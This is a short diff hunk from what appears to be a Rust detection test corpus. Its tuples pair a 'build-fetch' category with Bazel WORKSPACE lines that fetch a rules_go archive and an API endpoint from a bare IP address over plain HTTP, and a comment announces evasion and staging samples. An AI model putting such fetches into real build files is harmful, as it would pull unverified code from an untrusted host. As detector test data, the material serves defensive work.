@@ -1834,7 +1834,7 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "build-fetch",
         "WORKSPACE",
         "    urls = [\"http://45.77.141.20/rules_go-v0.46.0.zip\"],",
-        "    url = \"http://45.77.141.20:8000/api/status\"",
+        "URLS = ['http://45.77.141.20:8000/api/status']",
     ),
     // Batch 29 (evasion and staging): decoders of PHP, Ruby, Lua and Go,
     // a word sliced out of a shell variable a letter at a time, eval
